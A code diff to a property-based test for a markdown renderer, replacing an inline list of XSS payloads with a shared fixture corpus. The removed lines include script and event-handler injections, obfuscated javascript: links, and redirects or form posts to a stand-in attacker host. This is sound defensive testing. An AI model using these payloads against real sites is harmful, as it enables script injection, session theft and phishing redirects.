@@ -2,6 +2,7 @@ import createDOMPurify from 'dompurify'
 import fc from 'fast-check'
 import { JSDOM } from 'jsdom'
 import { describe, expect, it } from 'vitest'
+import corpus from '../../tests/fixtures/xss-corpus.json' with { type: 'json' }
 import { renderMarkdown } from './markdown.ts'
 
 /*
@@ -15,28 +16,8 @@ const window = new JSDOM('').window
 const purify = createDOMPurify(window)
 
 const TOKENS = [
-  '<script>alert(1)</script>',
-  '<img src=x onerror=alert(1)>',
-  '[a](javascript:alert(1))',
-  '[a](JaVaScRiPt:alert(1))',
-  '[a](&#106;avascript:alert(1))',
-  '[a](java\tscript:alert(1))',
-  '[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
-  '[a](vbscript:msgbox(1))',
-  '<javascript:alert(1)>',
-  '[a][r]\n\n[r]: javascript:alert(1)',
-  '![x](x" onerror="alert(1))',
-  '<svg><script>alert(1)</script></svg>',
-  '<math><mi xlink:href="data:x,alert(1)">x</mi></math>',
-  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-  '<svg><textarea><img src=x onerror=alert(1)></textarea></svg>',
-  '<style>@import url(//evil.example/x.css)</style>',
-  '<form action=//evil.example><button>x</button></form>',
-  '<base href=//evil.example/>',
-  '<meta http-equiv=refresh content="0;url=//evil.example">',
-  '<a id="__proto__" name="getElementById">x</a>',
-  '＜script＞alert(1)＜/script＞',
-  '﹤img src=x onerror=alert(1)﹥',
+  // The XSS corpus of security-matrix section 3, shared with the browser journey.
+  ...corpus.markdown,
   '[ok](https://example.com/a?b=1&c=2)',
   '<https://example.com>',
   '![图](https://example.com/a.png)',
